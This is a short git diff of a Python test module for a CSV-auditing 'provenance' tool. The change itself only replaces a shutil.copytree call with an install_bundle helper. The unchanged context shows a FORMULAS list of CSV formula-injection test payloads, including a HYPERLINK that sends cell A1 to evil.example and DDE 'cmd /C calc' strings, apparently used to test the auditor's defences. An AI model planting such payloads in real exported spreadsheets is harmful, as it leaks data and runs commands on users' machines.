@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import shutil
 from pathlib import Path
 
 import pytest
@@ -18,6 +17,7 @@ from provenance.review import audit_csv, audit_rows
 from provenance.reviewers import add_reviewer, authenticate
 from provenance.settings import Settings, mask_url_password
 from provenance.store import session_scope, upgrade
+from tests.conftest import install_bundle
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(A1:A9)", "\t=1+1", "=cmd|'/C calc'!A0", "\uff1dSUM(A1)"]
@@ -50,7 +50,7 @@ def test_quarantine_excerpts_keep_no_raw_text_unless_asked(tmp_path: Path, micro
     excerpts = {}
     for keep in (False, True):
         home = tmp_path / f"home-{keep}"
-        shutil.copytree(trained_bundle, home / "detectors" / "default")
+        install_bundle(trained_bundle, home)
         url = f"sqlite:///{home / 'db.sqlite'}"
         upgrade(url)
         settings = Settings(home=home, model=str(micro_model_dir), database_url=url, store_raw_text=keep)
